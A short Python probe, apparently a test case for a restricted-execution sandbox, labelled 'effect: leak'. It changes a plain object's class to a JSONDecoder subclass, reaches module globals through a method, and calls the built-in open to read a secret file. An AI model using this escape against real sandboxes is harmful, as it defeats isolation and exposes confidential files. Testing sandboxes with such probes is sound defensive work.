# effect: leak
# note: an object becomes another kind of object
import json


class Plain:
    pass


class Loader(json.JSONDecoder):
    pass


def attempt(probe):
    made = Plain()
    made.__class__ = Loader
    inside = made.raw_decode.__func__.__globals__
    return inside["__builtins__"]["open"](probe["secret_file"]).read()
